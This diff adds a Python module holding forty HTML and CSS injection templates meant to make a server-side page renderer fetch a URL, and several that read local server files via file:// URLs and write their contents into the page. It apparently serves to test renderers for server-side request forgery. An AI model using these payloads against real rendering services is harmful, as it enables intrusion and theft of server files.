@@ -1,0 +1,48 @@
+"""Forty ways in which words could make the printer of a page fetch something (P18)."""
+
+# {url}: where it would ask; {file}: a file of the server.
+FETCHING = (
+    '<img src="{url}">',
+    "<img src='{url}' onerror=\"this.src='{url}'\">",
+    '<img srcset="{url} 1x, {url}?2 2x" src="{url}?1">',
+    '<picture><source srcset="{url}"><img src="{url}"></picture>',
+    '<input type="image" src="{url}">',
+    '<link rel="stylesheet" href="{url}">',
+    '<link rel="icon" href="{url}">',
+    '<link rel="prefetch" href="{url}"><link rel="preload" as="image" href="{url}">',
+    "<style>@import '{url}';</style>",
+    "<style>@import url({url});</style>",
+    "<style>body {{ background: url({url}) }}</style>",
+    "<style>@font-face {{ font-family: x; src: url({url}) }} p {{ font: 9px x }}"
+    "</style>",
+    "<style>p::before {{ content: url({url}) }}</style>",
+    "<style>ul {{ list-style: url({url}) }}</style>",
+    '<p style="background-image: url({url})">x</p>',
+    "<p style=\"border-image: url('{url}') 9\">x</p>",
+    '<table background="{url}"><tr><td background="{url}">x</td></tr></table>',
+    '<body background="{url}">',
+    '<iframe src="{url}"></iframe>',
+    "<iframe srcdoc=\"<img src='{url}'>\"></iframe>",
+    '<frameset><frame src="{url}"></frameset>',
+    '<object data="{url}"></object>',
+    '<object type="text/html" data="{url}"><embed src="{url}"></object>',
+    '<embed src="{url}">',
+    '<applet code="x" codebase="{url}"></applet>',
+    '<svg><image href="{url}" xlink:href="{url}" width="9" height="9"/></svg>',
+    '<svg><use href="{url}#x" xlink:href="{url}#x"/></svg>',
+    '<svg><feImage xlink:href="{url}"/><style>@import "{url}";</style></svg>',
+    "<script>fetch('{url}')</script>",
+    "<script>new Image().src='{url}'</script>",
+    "<script>var x=new XMLHttpRequest();x.open('GET','{url}',false);x.send()</script>",
+    '<script src="{url}"></script>',
+    '<meta http-equiv="refresh" content="0;url={url}">',
+    '<base href="{url}/"><img src="x.png">',
+    '<video src="{url}" poster="{url}"></video>',
+    '<audio src="{url}" autoplay></audio><video><track src="{url}"></video>',
+    '<iframe src="file://{file}"></iframe>',
+    '<object data="file://{file}"></object><embed src="file://{file}">',
+    "<script>var x=new XMLHttpRequest();x.open('GET','file://{file}',false);x.send();"
+    "document.write(x.responseText)</script>",
+    '</div></td></table><img src="{url}"><a href="{url}"><img src="{url}"></a>',
+)
+assert len(FETCHING) == 40
